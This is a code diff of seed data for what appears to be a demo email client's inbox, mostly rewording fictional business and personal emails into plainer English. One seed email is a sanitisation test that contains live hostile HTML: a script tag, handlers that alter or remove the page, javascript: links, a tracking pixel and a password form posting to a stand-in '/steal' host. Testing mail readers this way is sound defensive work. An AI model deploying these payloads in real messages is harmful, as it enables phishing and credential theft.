@@ -13,21 +13,21 @@ export const seedInbox: readonly SeedMail[] = [
     attachments: [files.auditReport],
     text: `Good news from Kumasi: the new bracket holds, and door sensor 7 has not sent a false alarm since last night.
 
-The auditors’ report is attached. Three findings, none of them frightening. Two are ours; the first is yours: they want the alarm mail to reach the night shift within two minutes, and at the moment it takes four.
+The auditors’ report is attached. There are three findings, none of them serious. Two are ours. The first is yours: they want the alarm email to reach the night shift within two minutes, and right now it takes four.
 
-Is that a setting, or is it work?
+Is that a setting, or does it take work?
 
 Kofi`,
   },
   {
     from: product.name,
-    subject: 'New sign-in to your account',
+    subject: 'New login to your account',
     when: 24,
     isUnread: true,
     labels: ['private'],
-    text: `Somebody signed in to your account with Firefox on a Windows laptop in Accra.
+    text: `Someone logged in to your account with Firefox on a Windows laptop in Accra.
 
-If that was you, there is nothing to do. If it was not, change your password and look at the list of devices in your account’s settings.`,
+If this was you, you don’t need to do anything. If not, change your password and check your devices in your account settings.`,
   },
   {
     from: 'Adaeze Okonkwo',
@@ -38,11 +38,11 @@ If that was you, there is nothing to do. If it was not, change your password and
     labels: ['company'],
     text: `Dear Amara,
 
-our accounts team has found invoice 5014 again, which is long past due, and cannot match it to a purchase order. I believe it is the license with the six months of support, in which case the number is NF-2281.
+Our accounts team can’t match invoice 5014, which is long past due, to a purchase order. I think it’s the license with six months of support. If so, the number is NF-2281.
 
-Could you confirm, so that they can release the payment this week?
+Could you confirm, so they can release the payment this week?
 
-With thanks
+Thanks,
 Adaeze`,
   },
   {
@@ -54,7 +54,7 @@ Adaeze`,
     labels: ['company'],
     text: `Chère Amara,
 
-les premières courbes de la toiture de Rufisque sont arrivées cette nuit, et elles sont magnifiques. La production suit l’ensoleillement à deux pour cent près.
+Les premières courbes de la toiture de Rufisque sont arrivées cette nuit, et elles sont magnifiques. La production suit l’ensoleillement à deux pour cent près.
 
 Une seule question : à 13 h 40, la courbe tombe à zéro pendant six minutes. Est-ce l’onduleur, ou est-ce que le capteur s’est endormi ?
 
@@ -69,9 +69,9 @@ Fatou`,
     labels: ['important'],
     text: `Amara,
 
-could you look at the storage limit before Friday? We load the meter readings of the whole emirate at the weekend, which is about 140 GB, and I would rather not be told about a limit at two in the morning.
+Could you look at the storage limit before Friday? We’re loading the meter readings for the whole emirate this weekend, about 140 GB. I’d rather not hear about a limit at two in the morning.
 
-Raising it for a month would do. After that the raw files can go.
+Raising it for a month is enough. After that, the raw files can go.
 
 Best
 Tariq`,
@@ -85,11 +85,11 @@ Tariq`,
     labels: ['company'],
     text: `Estimada Amara:
 
-the board has agreed, so please add ten seats from today. The names follow as soon as the farms have told me who they are sending; until then the seats may stay empty.
+The board has agreed, so please add ten seats from today. I’ll send the names as soon as the farms tell me. Until then, the seats can stay empty.
 
-The question: a farm should see its own yields and the average of the cooperative, but not the yields of its neighbor. Is that one permission or two? I have promised to explain it at the general meeting, in front of one hundred and eighty farmers, so a short answer would be kind.
+My question: a farm should see its own yields and the cooperative’s average, but not its neighbor’s yields. Is that one permission or two? I promised to explain it to 180 farmers at the general meeting, so a short answer would help.
 
-With the regards of the whole cooperative
+Best regards from the whole cooperative,
 Maximiliano Augusto Fernández-Etchegaray de la Vega`,
   },
   {
@@ -99,22 +99,22 @@ Maximiliano Augusto Fernández-Etchegaray de la Vega`,
     isUnread: true,
     text: `<table width="100%" cellpadding="0" cellspacing="0" style="background:#f4f1ea"><tr><td align="center">
 <table width="560" cellpadding="24" cellspacing="0" style="background:#ffffff;font-family:Georgia,serif;color:#2b2b2b"><tr><td>
-<p style="letter-spacing:2px;color:#8a7f6a;font-size:12px">THE SLOW CHART · LETTER 118</p>
+<p style="letter-spacing:2px;color:#8a7f6a;font-size:12px">THE SLOW CHART · ISSUE 118</p>
 <h1 style="font-size:26px;line-height:1.25">Why your axis should start at zero, except when it should not</h1>
 <img src="https://pictures.theslowchart.example/118/two-axes.png" width="512" height="288" alt="The same six bars, once from zero and once from ninety">
-<p>Bars speak with their length. Cut the foot off a bar and it lies, politely, in every language. So bars begin at zero, and there is no exception worth the argument.</p>
-<p>Lines speak with their slope. A line of body temperature that begins at zero is a flat line, and a flat line has another meaning in a hospital.</p>
-<blockquote style="border-left:3px solid #c9b98a;margin:0;padding-left:16px;color:#5a5240">Ask what the reader compares. Then draw that, and leave out the rest.</blockquote>
-<h2 style="font-size:18px">Also in this letter</h2>
-<ul><li>A reader’s bus timetable, redrawn with half the ink</li><li>Seven greens that people confuse, and one they do not</li><li>The quietest legend is a label</li></ul>
-<p><a href="https://theslowchart.example/letters/118" style="background:#2b2b2b;color:#ffffff;padding:12px 20px;text-decoration:none">Read the letter</a></p>
-<p style="font-size:12px;color:#8a7f6a">You get this because you asked for it. <a href="https://theslowchart.example/unsubscribe">Unsubscribe</a> at any time.</p>
+<p>We read a bar by its length. Cut off the bottom, and the bar lies. So bars start at zero, without exception.</p>
+<p>We read a line by its slope. Start body temperature at zero and you get a flat line, which means something else in a hospital.</p>
+<blockquote style="border-left:3px solid #c9b98a;margin:0;padding-left:16px;color:#5a5240">Ask what the reader compares. Draw that, and leave out the rest.</blockquote>
+<h2 style="font-size:18px">Also in this issue</h2>
+<ul><li>A reader’s bus timetable, redrawn with half the ink</li><li>Seven greens that people confuse, and one they don’t</li><li>Replace your legend with labels</li></ul>
+<p><a href="https://theslowchart.example/issues/118" style="background:#2b2b2b;color:#ffffff;padding:12px 20px;text-decoration:none">Read the issue</a></p>
+<p style="font-size:12px;color:#8a7f6a">You’re receiving this because you subscribed. <a href="https://theslowchart.example/unsubscribe">Unsubscribe</a> at any time.</p>
 <img src="https://pictures.theslowchart.example/open.gif?reader=amara" width="1" height="1" alt="">
 </td></tr></table></td></tr></table>`,
   },
   {
     from: 'Aroha Ngata',
-    subject: 'Team days: where shall we go?',
+    subject: 'Team days: where should we go?',
     to: ['Amara Mensah', 'Kofi Boateng', 'Siobhán Ní Bhriain', 'Owen Pritchard', 'Sofía Márquez Villanueva'],
     when: [4, '09:12'],
     isStarred: true,
@@ -122,73 +122,73 @@ Maximiliano Augusto Fernández-Etchegaray de la Vega`,
     attachments: [files.tent, files.canoe],
     text: `Kia ora everyone,
 
-we said we would all meet once without a screen between us, and I have been told to organize it because I am the one who owns tents.
+We said we’d all meet in person for once. I’m organizing it, because I’m the one who owns tents.
 
 Three ideas:
 
-- The lake: canoes, a hut with a stove, no signal.
-- The hills: two days of walking, a proper bed in between.
-- A town with good coffee, and we pretend to work.
+- The lake: canoes, a hut with a stove, no signal
+- The hills: two days of hiking, with a proper bed in between
+- A town with good coffee, where we pretend to work
 
-Votes, please. Pictures of the tent and the canoe are attached, so that nobody can say they were not warned.
+Please vote. Pictures of the tent and the canoe are attached, so you’ve all been warned.
 
 Aroha`,
     replies: [
       {
         from: 'Owen Pritchard',
         when: [4, '09:40'],
-        text: `Hills. I have new boots and nobody to show them to.`,
+        text: `Hills. I have new boots and no one to show them to.`,
       },
       {
         from: 'Siobhán Ní Bhriain',
         when: [4, '10:05'],
-        text: `The lake, if the hut has a roof that has been seen by somebody other than the landlord. I bring the teapot and enough books for a week of rain.`,
+        text: `The lake, if someone other than the landlord has seen the roof of that hut. I’ll bring the teapot and enough books for a week of rain.`,
       },
       {
         from: 'Kofi Boateng',
         when: [4, '11:31'],
-        text: `I cannot swim, I have said so in writing, and I am saying so again. Having said that: the lake. The fish will be fresh.`,
+        text: `I can’t swim. I’ve said so in writing, and I’m saying it again. But the lake: the fish will be fresh.`,
       },
       {
         from: 'Amara Mensah',
         to: ['Aroha Ngata', 'Kofi Boateng', 'Siobhán Ní Bhriain', 'Owen Pritchard', 'Sofía Márquez Villanueva'],
         when: [4, '13:02'],
-        text: `The lake for me too, for the want of signal.
+        text: `The lake for me too, because there’s no signal.
 
-Two conditions: nobody brings a laptop “just in case”, and whoever says “quick question” washes up.`,
+Two conditions: no laptops “just in case”, and anyone who says “quick question” does the dishes.`,
       },
       {
         from: 'Sofía Márquez Villanueva',
         when: [3, '02:18'],
-        text: `Writing from the wrong time zone: lake! I bring the guitar, and I promise to know four songs by then.`,
+        text: `Writing from the wrong time zone: lake! I’ll bring the guitar, and I promise to learn four songs by then.`,
       },
       {
         from: 'Owen Pritchard',
         when: [3, '08:55'],
-        text: `Outvoted by people who cannot swim. Fine. Is there at least a hill <i>near</i> the lake?`,
+        text: `Outvoted by people who can’t swim. Fine. Is there at least a hill <i>near</i> the lake?`,
       },
       {
         from: 'Aroha Ngata',
         when: [3, '09:20'],
         attachments: [files.packingList],
-        text: `The lake it is, four to one. Owen: there is a hill, it is called the Hill, and it takes forty minutes.
+        text: `The lake wins, four to one. Owen: there is a hill. It’s called the Hill, and it takes forty minutes.
 
-Packing list attached. Put your name behind what you bring. If three people bring a torch and nobody brings matches, I shall know that you have not read this far.`,
+The packing list is attached. Put your name next to what you’ll bring. If three people bring a flashlight and no one brings matches, I’ll know that you didn’t read this far.`,
       },
       {
         from: 'Siobhán Ní Bhriain',
         when: [2, '17:44'],
-        text: `I have read this far. I bring matches.`,
+        text: `I read this far. I’ll bring matches.`,
       },
       {
         from: 'Kofi Boateng',
         when: [1, '07:15'],
-        text: `I bring a life jacket. One. It is mine.`,
+        text: `I’ll bring a life jacket. One. It’s mine.`,
       },
       {
         from: 'Aroha Ngata',
         when: 140,
-        text: `The hut is booked for the first weekend that suits everybody, which I shall work out from your calendars. If your calendar is wrong, that is between you and your calendar.`,
+        text: `I’ll book the hut for the first weekend that works for everyone. I’m checking your calendars, so please keep them up to date.`,
       },
     ],
   },
@@ -201,13 +201,13 @@ Packing list attached. Put your name behind what you bring. If three people brin
     attachments: [files.teapot],
     text: `Amara-san,
 
-thank you for the second round. The studio has looked at it together, over the red teapot that you see in the picture, and we agree on nearly everything.
+Thank you for the second round. The studio looked at it together, over the red teapot in the picture, and we like nearly everything.
 
-- The start page may be quieter still. One picture is enough.
-- Please let the client area open with the latest delivery, not with the list.
-- The gray of the captions is too shy. Mr Ito could not read it, and he made the pictures.
+- The home page could be even calmer. One picture is enough.
+- Please open the client area with the latest delivery, not the list.
+- The gray of the captions is too light. Mr. Ito couldn’t read them, and he took the pictures.
 
-We have moved, by the way. I shall put the new billing address into your system tomorrow.
+We’ve moved, by the way. I’ll add the new billing address tomorrow.
 
 Haruka`,
     replies: [
@@ -217,16 +217,16 @@ Haruka`,
         when: [1, '11:30'],
         text: `Haruka-san,
 
-all three are easy, and all three are better than what we had. The captions were a gray that the checker refuses as well, so Mr Ito is in good company.
+All three are easy, and all three are improvements. Our contrast checker rejects that gray too, so Mr. Ito is right.
 
-You will have the third round in four days.
+You’ll have the third round in four days.
 
 Amara`,
       },
       {
         from: 'Haruka Nishimura',
         when: [1, '23:50'],
-        text: `Wonderful. Mr Ito sends his regards to the checker.`,
+        text: `Wonderful. Mr. Ito says hello to the contrast checker.`,
       },
     ],
   },
@@ -239,28 +239,28 @@ Amara`,
     labels: ['personal', 'private'],
     text: `Sister,
 
-Mama says you work too much and that there will be red red on Sunday, and that these two facts are connected. One o’clock. Bring nothing, which means bring the good bread.
+Mama says you work too much, and that she’s cooking red red on Sunday. One o’clock. Bring nothing, which means bring the good bread.
 
-Kwame has a girlfriend. I know nothing. Ask him in front of everybody.
+Kwame has a girlfriend. You didn’t hear it from me. Ask him in front of everyone.
 
 Esi`,
   },
   {
     from: 'Dmytro Shevchenko',
-    subject: 'Does your mail reader survive this?',
+    subject: 'Can your email app survive this?',
     when: [1, '15:10'],
     attachments: [files.webhook],
     text: `<style>body { display: none } .cover { position: fixed; inset: 0; background: #b00020; z-index: 99999 }</style>
-<script>document.title = 'The mail has taken over'</script>
+<script>document.title = 'This email took over'</script>
 <div class="cover" style="position:fixed;top:0;left:0;width:100vw;height:100vh" onclick="alert('clicked')"></div>
 <p onmouseover="document.body.remove()">Hi Amara,</p>
-<p>we are testing mail readers for our own product, and this mail does what mails should not do: it runs a script, covers the page, asks for your password, and calls home with a picture.</p>
+<p>We’re testing email apps for our own product. This email does what no email should do: it runs a script, covers the page, asks for your password and tracks you with an image.</p>
 <img src="https://pixel.dnipro-gears.example/open.gif?who=amara" width="1" height="1" alt="" onerror="document.title = 'onerror'">
-<p><a href="javascript:alert('link')">A link that is no link</a>, <a href="https://dnipro-gears.example/report" target="_top">one that is</a>, and a form:</p>
-<form action="https://dnipro-gears.example/steal" method="post"><label>Password <input name="password" type="password"></label> <button>Sign in again</button></form>
+<p><a href="javascript:alert('link')">A link that runs a script</a>, <a href="https://dnipro-gears.example/report" target="_top">a real link</a>, and a form:</p>
+<form action="https://dnipro-gears.example/steal" method="post"><label>Password <input name="password" type="password"></label> <button>Log in again</button></form>
 <iframe src="https://dnipro-gears.example/frame"></iframe>
-<svg onload="alert('svg')"><a href="javascript:alert('svg link')"><text x="0" y="12">A picture that is no picture</text></a></svg>
-<p>If you can read this line and nothing else has happened, your reader has passed. The examples of our real webhooks are attached; those are harmless.</p>
+<svg onload="alert('svg')"><a href="javascript:alert('svg link')"><text x="0" y="12">An image that runs a script</text></a></svg>
+<p>If you can read this line and nothing else happened, your email app passed. Examples of our real webhooks are attached. They’re harmless.</p>
 <p>Dmytro</p>`,
   },
   {
@@ -271,7 +271,7 @@ Esi`,
     attachments: [files.glossary],
     text: `Bonjour Amara,
 
-voici le guide de traduction, relu deux fois. J’ai tranché : on vouvoie, et « dashboard » devient « tableau de bord » partout, même dans les titres. Tant pis pour la largeur des boutons.
+Voici le guide de traduction, relu deux fois. J’ai tranché : on vouvoie, et « dashboard » devient « tableau de bord » partout, même dans les titres. Tant pis pour la largeur des boutons.
 
 Il reste un mot que je n’aime pas : « settings ». « Réglages » ou « paramètres » ? Le premier est plus court, le second plus courant. Je te laisse choisir.
 
@@ -286,9 +286,9 @@ Clément`,
     labels: ['company', 'important'],
     text: `Dear Amara,
 
-two matters, the small one first. I registered with the Company plan yesterday and asked for the editor role; the account is still waiting for approval, so I cannot see the contracts I am meant to review.
+Two things, the small one first. I registered for the Company plan yesterday and asked for the editor role. My account is still waiting for approval, so I can’t see the contracts I need to review.
 
-The larger one: clause 9 of the reseller agreement lets a reseller quote <em>your</em> service levels as <em>theirs</em>. I doubt that you want that. A version with two changed sentences is ready; I only need somewhere to put it.
+The larger one: clause 9 of the reseller agreement lets a reseller quote <em>your</em> service levels as <em>theirs</em>. I doubt you want that. I’ve drafted a fix that changes two sentences. Where should I put it?
 
 Kind regards
 Naledi Mokoena
@@ -298,22 +298,22 @@ Protea Legal, Johannesburg`,
     from: 'Swiftwing Couriers',
     subject: 'Your parcel SW 4471 9082 arrives between 2 and 4 pm',
     when: [2, '07:03'],
-    text: `<div style="font-family:Arial,sans-serif;max-width:480px"><h2 style="color:#0b6e4f">On its way to 14 Ring Road East</h2><p>Parcel <b>SW 4471 9082</b> is with your driver, Ebenezer.</p><table cellpadding="6" style="border-collapse:collapse;width:100%"><tr><td style="border:1px solid #dddddd">Contents</td><td style="border:1px solid #dddddd">1 × Ridgeline Two-Person Tent, 2 × Beacon Rechargeable Torch</td></tr><tr><td style="border:1px solid #dddddd">Arrives</td><td style="border:1px solid #dddddd">between 2 and 4 pm</td></tr><tr><td style="border:1px solid #dddddd">Hand over to</td><td style="border:1px solid #dddddd">Amara Mensah, or reception</td></tr></table><p><a href="https://swiftwing.example/track/44719082">Follow the van on the map</a></p></div>`,
+    text: `<div style="font-family:Arial,sans-serif;max-width:480px"><h2 style="color:#0b6e4f">On its way to 14 Ring Road East</h2><p>Your driver, Ebenezer, has parcel <b>SW 4471 9082</b>.</p><table cellpadding="6" style="border-collapse:collapse;width:100%"><tr><td style="border:1px solid #dddddd">Contents</td><td style="border:1px solid #dddddd">1 × Ridgeline Two-Person Tent, 2 × Beacon Rechargeable Flashlight</td></tr><tr><td style="border:1px solid #dddddd">Estimated arrival</td><td style="border:1px solid #dddddd">between 2 and 4 pm</td></tr><tr><td style="border:1px solid #dddddd">Deliver to</td><td style="border:1px solid #dddddd">Amara Mensah, or reception</td></tr></table><p><a href="https://swiftwing.example/track/44719082">Track your parcel on the map</a></p></div>`,
   },
   {
     from: 'Wanjiru Kamau',
-    subject: 'Month-end: notes from Monday, and five clients to nudge',
+    subject: 'Month-end: notes from Monday, and five clients to remind',
     when: [2, '08:40'],
     isStarred: true,
     labels: ['company'],
     attachments: [files.minutes, files.ledger],
     text: `Morning Amara,
 
-notes from Monday and the list of open items are attached. Five clients are late, and only one of them worries me: Érable &amp; Fils, thirty-nine days. Émilie always pays, but she pays after a phone call, and you are the one she answers.
+Notes from Monday and the list of open items are attached. Five clients are late, and only one worries me: Érable &amp; Fils, 39 days. Émilie always pays, but only after a phone call, and you’re the one she answers.
 
-The other four have had a friendly reminder, or have a question that I can answer.
+The other four got a friendly reminder, or have a question that I can answer.
 
-One more thing. Somebody booked a canoe to “office supplies”. I have moved it to “team”, but I would love to hear the story.
+One more thing: someone booked a canoe under “Office supplies”. I moved it to “Team”, but I’d love to hear the story.
 
 Wanjiru`,
   },
@@ -340,9 +340,9 @@ Mateus`,
     attachments: [files.dataProtection],
     text: `Hi Amara,
 
-our counsel has been through the agreement and has changed exactly one number: a breach is reported within twenty-four hours, not forty-eight. Everything else stands as you sent it.
+Our lawyers reviewed the agreement and changed one number: a breach must be reported within 24 hours, not 48. The rest is unchanged.
 
-If you are happy, sign it and send it back, and we switch the second newsroom over on the same day. They have been asking since we moved up to Enterprise.
+If you agree, please sign it and send it back. We’ll switch the second newsroom over the same day. They’ve been asking since we upgraded to Enterprise.
 
 Grace`,
     replies: [
@@ -352,7 +352,7 @@ Grace`,
         when: [3, '18:02'],
         text: `Hi Grace,
 
-twenty-four hours is what we tell ourselves anyway, so we may as well tell you. I sign tomorrow, once Naledi has nodded.
+24 hours is our internal target anyway, so that works for us. I’ll sign tomorrow, once Naledi approves it.
 
 Amara`,
       },
@@ -360,12 +360,12 @@ Amara`,
         from: 'Naledi Mokoena',
         to: ['Amara Mensah', 'Grace Whitfield'],
         when: [2, '09:11'],
-        text: `Nodded. Annex B lists one sub-processor that you no longer use; strike it out before you sign, and initial the change.`,
+        text: `Approved. Annex B lists a sub-processor that you no longer use. Cross it out before you sign, and initial the change.`,
       },
       {
         from: 'Grace Whitfield',
         when: [2, '15:37'],
-        text: `Struck out on our side too. Over to you!`,
+        text: `Crossed out on our side too. Over to you!`,
       },
     ],
   },
@@ -402,9 +402,9 @@ Ottilie Käsermann`,
     attachments: [files.agenda],
     text: `Hello both,
 
-the agenda for the town hall is attached. Amara has ten minutes for the welcome, Wanjiru fifteen for six figures, which is two and a half minutes a figure. I have counted.
+The agenda for the town hall is attached. Amara has ten minutes for the welcome. Wanjiru has fifteen for six figures, so two and a half minutes each.
 
-Questions can be sent without a name until the evening before. There are nine so far, and four of them are about the coffee.
+Anonymous questions are open until the evening before. We have nine so far. Four are about the coffee.
 
 Priya`,
   },
@@ -415,11 +415,11 @@ Priya`,
     attachments: [files.priceList],
     text: `Hola Amara,
 
-here is the price list as it would go to the three resellers. I have rounded the reseller prices down to full numbers, which costs us about nine dollars a year and saves everyone a conversation.
+Here’s the price list for the three resellers. I rounded the reseller prices down to whole dollars. That costs us about nine dollars a year and saves a lot of questions.
 
-Two things before I send it. Is “Unlimited Extended License” really per company, or per product? And our storage is at ninety per cent, says your kind robot; I suppose that is my archive of old price lists.
+Two questions before I send it. Is “Unlimited Extended License” per company or per product? And we got a warning that our storage is 90% full. Could that be my archive of old price lists?
 
-Abrazo
+Un abrazo,
 Catalina`,
   },
   {
@@ -427,7 +427,7 @@ Catalina`,
     subject: 'Your statement is ready',
     when: [5, '05:15'],
     labels: ['private'],
-    text: `<p>Dear Ms Mensah,</p><p>the statement of your current account ending in <b>0417</b> is ready. You find it under <i>Documents</i> after signing in at your branch’s terminal or in the app.</p><p>We never ask for your PIN or password by mail.</p><p>Gold Coast Mutual Bank</p>`,
+    text: `<p>Dear Ms. Mensah,</p><p>The statement for your checking account ending in <b>0417</b> is ready. Log in to the app or at your branch and open <i>Documents</i>.</p><p>We never ask for your PIN or password by email.</p><p>Gold Coast Mutual Bank</p>`,
   },
   {
     from: 'Jakub Dvořák',
@@ -437,9 +437,9 @@ Catalina`,
     attachments: [files.importScript],
     text: `Hi Amara,
 
-the script is attached. Five lines, of which one is the license to run the other four. It sorts by email and throws duplicates away, so look at the count it prints at the end: if it says 412 and you expected 450, the list had cousins.
+The script is attached. It’s five lines. It sorts by email and removes duplicates, so check the count it prints at the end. If it says 412 and you expected 450, the list had duplicates.
 
-It refuses files it cannot read and says so. I have learned.
+If it can’t read a file, it stops and prints an error. I’ve learned my lesson.
 
 Jakub`,
   },
